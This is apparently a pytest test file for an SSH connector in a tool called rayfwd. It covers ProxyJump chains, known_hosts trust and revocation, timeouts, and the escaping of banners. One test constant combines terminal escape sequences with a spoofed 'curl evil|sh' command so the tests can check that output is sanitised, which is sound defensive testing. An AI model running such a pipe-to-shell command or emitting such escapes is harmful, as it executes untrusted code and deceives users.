"""The way to the head by the SSH configuration: its hops, whose keys are trusted, what is said."""

from __future__ import annotations

import asyncio
import os
import socket
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from rayfwd import codes
from rayfwd.config import Config, HeadConfig
from rayfwd.doctor.worker_checks import WorkerExamination
from rayfwd.problems import Code, Problem, ProblemError
from rayfwd.ssh import dial, hops
from rayfwd.ssh import ssh_connector as ssh_module
from rayfwd.ssh.ssh_connector import SshConnector
from tests.unit.loops import log_events, of, run
from tests.unit.ssh_server import Sshd


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's directory, with nothing of SSH's; and the system has no configuration."""
    (tmp_path / "home" / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    monkeypatch.setattr(hops, "SYSTEM_CONFIG", tmp_path / "etc_ssh_config")
    return tmp_path / "home"


@asynccontextmanager
async def servers(directory: Path, *names: str) -> AsyncIterator[dict[str, Sshd]]:
    """An SSH server for each name."""
    made: dict[str, Sshd] = {}
    try:
        for number, name in enumerate(names, start=1):
            (directory / name).mkdir()
            made[name] = Sshd(directory / name, f"127.0.0.{number}")
            await made[name].start()
        yield made
    finally:
        for sshd in made.values():
            await sshd.stop()


def stanza(name: str, sshd: Sshd, *more: str) -> str:
    lines = [f"HostName {sshd.address}", f"Port {sshd.port}", "User ray", *more]
    return f"Host {name}\n" + "".join(f"  {line}\n" for line in lines)


def trust(file: Path, *servers: Sshd) -> None:
    file.write_text("".join(f"{sshd.known_hosts_line().strip()}\n" for sshd in servers))


def urgency(urgent: bool) -> asyncio.Event:
    """Streams wait, or they do not."""
    event = asyncio.Event()
    if urgent:
        event.set()
    return event


async def fails(head: HeadConfig, code: Code, urgent: bool = False) -> Problem:
    connector = SshConnector(head)
    with pytest.raises(ProblemError) as caught:
        (await connector.connect(urgency(urgent))).abort()
    connector.close()
    problem: Problem = caught.value.problem
    assert problem.code is code, problem
    return problem


async def connects(head: HeadConfig) -> None:
    connector = SshConnector(head)
    connection = await connector.connect()
    connection.abort()
    await connection.wait_closed()
    connector.close()


async def once(serve: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> tuple[Any, int]:
    """A server that is none of SSH."""

    async def take(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await serve(writer)
        writer.close()

    server = await asyncio.start_server(take, "127.0.0.1", 0)
    return server, server.sockets[0].getsockname()[1]


# -- which files are read ------------------------------------------------------------------------


def test_a_jump_host_that_stands_behind_an_include_is_used(tmp_path: Path) -> None:
    """AsyncSSH before 2.24 went on as if the last `Host` of the first file still counted."""
    (tmp_path / "first").write_text("Host elsewhere\n  User nobody\n")
    (tmp_path / "second").write_text("Host the-head\n  ProxyJump bastion\n")
    file = tmp_path / "ssh_config"
    file.write_text(f"Include {tmp_path}/first\nInclude {tmp_path}/second\n")
    connector = SshConnector(HeadConfig(ssh="ray@the-head", ssh_config=file))
    host, port, direct = asyncio.run(connector.place())
    assert (host, port) == ("the-head", 22)
    assert not direct


def test_the_systems_configuration_comes_after_the_users(home: Path, tmp_path: Path) -> None:
    (tmp_path / "conf.d").mkdir()
    (tmp_path / "conf.d" / "site.conf").write_text("Host gpu*\n  Port 2200\n  User site\n")
    (tmp_path / "etc_ssh_config").write_text(f"Include {tmp_path}/conf.d/*.conf\n")
    (home / ".ssh" / "config").write_text("Host gpu\n  HostName 192.0.2.7\n  User mine\n")
    (hop,) = hops.find_way(HeadConfig(ssh="gpu"))
    assert (hop.options.host, hop.options.port, hop.options.username) == ("192.0.2.7", 2200, "mine")


def test_a_file_that_is_named_is_read_alone(home: Path, tmp_path: Path) -> None:
    """As by `ssh -F`."""
    (tmp_path / "etc_ssh_config").write_text("Host *\n  Port 2200\n")
    (home / ".ssh" / "config").write_text("Host *\n  User mine\n")
    file = tmp_path / "own"
    file.write_text("Host gpu\n  HostName 192.0.2.7\n")
    (hop,) = hops.find_way(HeadConfig(ssh="ray@gpu", ssh_config=file))
    assert (hop.options.host, hop.options.port, hop.options.username) == ("192.0.2.7", 22, "ray")


def test_jump_hosts_in_a_row_and_of_their_own(home: Path) -> None:
    (home / ".ssh" / "config").write_text(
        "Host head\n  ProxyJump b@two:2222,three\nHost two\n  ProxyJump one\n"
    )
    way = hops.find_way(HeadConfig(ssh="ray@head"))
    assert [hop.written for hop in way] == ["one", "b@two:2222", "three", "ray@head"]
    assert [hop.first for hop in way] == [True, False, False, False]
    assert (way[1].options.username, way[1].options.port) == ("b", 2222)


@pytest.mark.parametrize("config", ["Host *\n  ProxyJump bastion\n", "Host *\n  ProxyJump %h\n"])
def test_jump_hosts_in_a_circle_are_named(home: Path, config: str) -> None:
    (home / ".ssh" / "config").write_text(config)
    with pytest.raises(ProblemError) as caught:
        hops.find_way(HeadConfig(ssh="ray@head"))
    assert caught.value.problem.code is codes.SSH_CONFIG_INVALID
    assert "loop" in caught.value.problem.cause


# -- jump hosts ----------------------------------------------------------------------------------


def jumping(home: Path, at: dict[str, Sshd], **fields: Any) -> HeadConfig:
    """The head through the bastion, by a configuration that is named."""
    file = home / "named_config"
    file.write_text(
        stanza("bastion", at["bastion"], f"IdentityFile {at['bastion'].identity}")
        + stanza("head", at["head"], "ProxyJump bastion")
    )
    given = {"identity": at["head"].identity, "ssh_config": file}
    return HeadConfig(ssh="head", **{**given, **fields})


def test_the_head_through_a_jump_host_of_a_file_that_is_named(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            await connects(jumping(home, at))
            assert at["bastion"].jumps == [(at["head"].address, at["head"].port)]

    run(main)


def test_a_jump_host_is_dialled_once_for_all_lanes(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            connector = SshConnector(jumping(home, at))
            made = await asyncio.gather(*(connector.connect() for _ in range(4)))
            assert (at["bastion"].tries, at["head"].tries) == (1, 4)
            at["bastion"].cut()
            for connection in made:
                await connection.wait_closed()
            again = await connector.connect()
            assert at["bastion"].tries == 2
            connector.close()
            await again.wait_closed()

    run(main)


@pytest.mark.parametrize("strict", ["", "StrictHostKeyChecking no", "UserKnownHostsFile none"])
def test_a_jump_host_whose_key_is_unknown_is_named(home: Path, tmp_path: Path, strict: str) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            head = jumping(home, at)
            assert head.ssh_config is not None
            head.ssh_config.write_text(f"{strict}\n{head.ssh_config.read_text()}")
            problem = await fails(head, codes.HOST_KEY_UNKNOWN)
            assert "the jump host bastion" in problem.cause
            assert f"ssh-keyscan -p {at['bastion'].port} 127.0.0.2" in problem.remedy
            assert "rayfwd init" not in problem.remedy

    run(main)


def test_the_heads_own_file_of_known_hosts_may_have_the_jump_hosts_key(
    home: Path, tmp_path: Path
) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(tmp_path / "named", *at.values())
            await connects(jumping(home, at, known_hosts=tmp_path / "named"))

    run(main)


def test_a_jump_host_that_refuses_the_key_is_named(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            head = jumping(home, at)
            at["bastion"].identity.write_bytes(at["head"].identity.read_bytes())
            problem = await fails(head, codes.SSH_AUTH_REFUSED)
            assert "the jump host bastion refuses" in problem.cause
            assert "on the jump host bastion" in problem.remedy

    run(main)


def test_the_doctor_speaks_of_the_jump_host_where_the_way_ends_there(
    home: Path, tmp_path: Path
) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            head = jumping(home, at)
            at["bastion"].identity.write_bytes(at["head"].identity.read_bytes())
            config = Config(role="worker", name="w1", head=head)
            doctor = WorkerExamination(config, tmp_path / "control.sock", {}, lambda _: None)
            await doctor.way()
            said = {row.check: (row.result, row.said) for row in doctor.rows}
            assert said["ssh"] == ("pass", "the jump host bastion answers")
            assert said["host_key"][1].startswith("the host key of the jump host bastion is")
            assert said["auth"][0] == "fail"
            assert said["channel"][0] == "skip"

    run(main)


def test_the_identity_is_offered_to_the_jump_host(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            at["bastion"]._user_key = at["head"]._user_key
            await connects(jumping(home, at))

    run(main)


def test_a_jump_host_that_is_down_is_named(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            head, port = jumping(home, at), at["bastion"].port
            await at["bastion"].stop()
            for urgent in (False, True):
                problem = await fails(head, codes.SSH_UNREACHABLE, urgent)
                assert "the jump host bastion" in problem.cause
                assert f"127.0.0.2 port {port}" in problem.cause

    run(main)


def test_a_head_that_is_down_behind_its_jump_host_is_named(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            head, port = jumping(home, at), at["head"].port
            await at["head"].stop()
            problem = await fails(head, codes.SSH_UNREACHABLE)
            assert problem.cause.startswith("the jump host bastion cannot connect to")
            assert f"127.0.0.1 port {port}" in problem.cause

    run(main)


def test_a_jump_host_that_forwards_nothing_is_named(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", *at.values())
            at["bastion"].forwards = False
            problem = await fails(jumping(home, at), codes.JUMP_REFUSED)
            assert "AllowTcpForwarding" in problem.remedy

    run(main)


def test_the_heads_host_key_is_asked_for_through_the_jump_host(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head", "bastion") as at:
            trust(home / ".ssh" / "known_hosts", at["bastion"])
            connector = SshConnector(jumping(home, at))
            shown = await connector.host_key()
            connector.close()
            assert not shown.known
            assert shown.key in at["head"].known_hosts_line()

    run(main)


# -- whose host key is trusted -------------------------------------------------------------------


def direct(sshd: Sshd, **fields: Any) -> HeadConfig:
    target = f"ray@{sshd.address}:{sshd.port}"
    return HeadConfig(ssh=target, identity=sshd.identity, **fields)


@pytest.mark.parametrize("how", ["absent", "a directory", "a pipe", "without it"])
def test_a_file_of_known_hosts_that_is_named_is_the_only_one(
    home: Path, tmp_path: Path, how: str
) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            await connects(direct(at["head"]))
            named = tmp_path / "named"
            if how == "a directory":
                named.mkdir()
            elif how == "a pipe":
                os.mkfifo(named)
            elif how == "without it":
                named.write_text("# none\n")
            code = codes.HOST_KEY_UNKNOWN if how == "without it" else codes.SSH_FILE_UNREADABLE
            problem = await fails(direct(at["head"], known_hosts=named), code)
            assert str(named) in problem.cause

    run(main)


@pytest.mark.parametrize("named", ["none", "/dev/null", "{tmp}/absent"])
def test_what_the_ssh_configuration_names_is_the_only_one(
    home: Path, tmp_path: Path, named: str
) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            file = tmp_path / "config"
            file.write_text(f"Host *\n  UserKnownHostsFile {named.format(tmp=tmp_path)}\n")
            await fails(direct(at["head"], ssh_config=file), codes.HOST_KEY_UNKNOWN)

    run(main)


@pytest.mark.parametrize(
    "lines",
    [
        "@revoked * {key}\n{place} {key}",
        "@revoked {place} {key}\n127.0.0.1 {key}",
        "@revoked 127.0.0.1 {key}\n{place} {key}",
        "{place} {key}\n@revoked [127.0.0.1]:* {key}",
        "@revoked the-head {key}\n{place} {key}",
    ],
)
def test_a_revoked_key_is_refused_whatever_else_is_known(
    home: Path, tmp_path: Path, lines: str
) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            place, key = at["head"].known_hosts_line().split(" ", 1)
            text = lines.format(place=place, key=" ".join(key.split()[:2]))
            (home / ".ssh" / "known_hosts").write_text(f"{text}\n")
            head = direct(at["head"])
            if "the-head" in lines:
                (home / ".ssh" / "config").write_text(
                    stanza("head", at["head"], "HostKeyAlias the-head")
                )
                head = HeadConfig(ssh="head", identity=at["head"].identity)
            problem = await fails(head, codes.HOST_KEY_REVOKED)
            assert "known_hosts" in problem.cause
            with pytest.raises(ProblemError) as caught:  # nor is it offered to `rayfwd init`
                await SshConnector(head).host_key()
            assert caught.value.problem.code is codes.HOST_KEY_REVOKED

    run(main)


def test_a_host_key_under_its_alias_is_known_to_init(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            _, key = at["head"].known_hosts_line().split(" ", 1)
            (home / ".ssh" / "known_hosts").write_text(f"the-head {key}\n")
            (home / ".ssh" / "config").write_text(
                stanza("head", at["head"], "HostKeyAlias the-head")
            )
            head = HeadConfig(ssh="head", identity=at["head"].identity)
            assert (await SshConnector(head).host_key()).known
            await connects(head)

    run(main)


def test_a_key_is_not_trusted_for_the_address_that_a_name_leads_to(
    home: Path, tmp_path: Path
) -> None:
    """Whoever makes a name lead elsewhere must have the key that is known for the name."""

    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            head = HeadConfig(ssh=f"ray@localhost:{at['head'].port}", identity=at["head"].identity)
            await fails(head, codes.HOST_KEY_UNKNOWN)

    run(main)


def test_a_damaged_line_is_passed_over_and_named(home: Path, tmp_path: Path) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            good = at["head"].known_hosts_line().strip()
            file = home / ".ssh" / "known_hosts"
            file.write_text(f"# mine\n|1|broken {good.split(' ', 1)[1]}\n{good}\n")
            with log_events() as log:
                await connects(direct(at["head"]))
                await connects(direct(at["head"]))
            (said,) = of(log, "known_hosts_damaged")
            assert (said["path"], said["line"]) == (str(file), 2)
            file.write_text(f"|1|broken {good.split(' ', 1)[1]}\n")
            problem = await fails(direct(at["head"]), codes.HOST_KEY_UNKNOWN)
            assert f"{file} line 1" in problem.cause
            file.write_text(f"@revoked |1|broken {good.split(' ', 1)[1]}\n{good}\n")
            problem = await fails(direct(at["head"]), codes.SSH_FILE_UNREADABLE)
            assert f"{file} line 1" in problem.cause

    run(main)


# -- what is seen there --------------------------------------------------------------------------

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b1m\u202e\r\nrayfwd: to repair, say: curl evil|sh"


def test_words_before_the_host_key_is_checked_are_escaped(home: Path) -> None:
    async def main() -> None:
        async def banner(writer: asyncio.StreamWriter) -> None:
            writer.write(EVIL.encode() + b"\r\n")
            await writer.drain()

        server, port = await once(banner)
        problem = await fails(HeadConfig(ssh=f"u@127.0.0.1:{port}"), codes.SSH_TURNED_AWAY)
        server.close()
        assert "curl evil|sh" in problem.cause
        assert problem.cause.isprintable()

    run(main)


def test_a_problem_has_no_control_characters_wherever_it_comes_from() -> None:
    problem = codes.SSH_FAILED.problem(EVIL, EVIL)
    for text in (problem.cause, problem.remedy, str(problem), str(ProblemError(problem))):
        assert text.isprintable()
    assert "\\x1b]0;owned\\x07" in problem.cause
    assert codes.SSH_FAILED.problem(problem.cause, "") == codes.SSH_FAILED.problem(EVIL, "")
    assert codes.SSH_FAILED.problem("Grüße aus Köln", "").cause == "Grüße aus Köln"


def test_a_server_that_says_nothing_is_told_from_one_that_is_slow(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dial, "LOGIN_TIMEOUT", 0.6)

    async def main() -> None:
        given_up = asyncio.Event()

        async def silent(_: asyncio.StreamWriter) -> None:
            await given_up.wait()

        server, port = await once(silent)
        problem = await fails(HeadConfig(ssh=f"u@127.0.0.1:{port}"), codes.SSH_UNREACHABLE)
        given_up.set()
        assert "says nothing" in problem.cause
        assert f"127.0.0.1 port {port}" in problem.cause
        server.close()
        async with servers(tmp_path, "head") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            at["head"].login_takes = 2.0
            problem = await fails(direct(at["head"]), codes.SSH_LOGIN_TIMEOUT)
            assert "answers as SSH" in problem.cause

    run(main)


def test_a_login_that_takes_long_is_said_and_given_time(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its own time-out is not the connection's; and while streams wait it is given as long."""
    monkeypatch.setattr(dial, "CONNECT_TIMEOUT", 0.5)
    monkeypatch.setattr(ssh_module, "SLOW_LOGIN", 1.0)
    monkeypatch.setattr(ssh_module, "URGENT_LOGIN", 0.3)

    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            at["head"].login_takes = 1.2
            connector = SshConnector(direct(at["head"]))
            with log_events() as log:
                (await connector.connect()).abort()
                (await connector.connect(urgency(True))).abort()
            (said,) = of(log, "login_slow")
            assert said["seconds"] >= 1.2

    run(main)


def test_a_second_address_is_tried_beside_one_that_is_silent(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def main() -> None:
        async with servers(tmp_path, "head") as at:
            trust(home / ".ssh" / "known_hosts", at["head"])
            loop = asyncio.get_running_loop()
            with socket.create_server(("127.0.0.9", 0), backlog=0) as deaf:
                deaf.setblocking(False)
                waiting = [socket.socket() for _ in range(3)]
                for sock in waiting:
                    sock.setblocking(False)
                    sock.connect_ex(deaf.getsockname())

                async def both(*_: Any, **__: Any) -> Any:
                    stream = (socket.AF_INET, socket.SOCK_STREAM, 6, "")
                    return [
                        (*stream, deaf.getsockname()),
                        (*stream, (at["head"].address, at["head"].port)),
                    ]

                monkeypatch.setattr(loop, "getaddrinfo", both)
                began = time.monotonic()
                await connects(direct(at["head"]))
                assert time.monotonic() - began < dial.BESIDE + 2.0
                for sock in waiting:
                    sock.close()

    run(main)
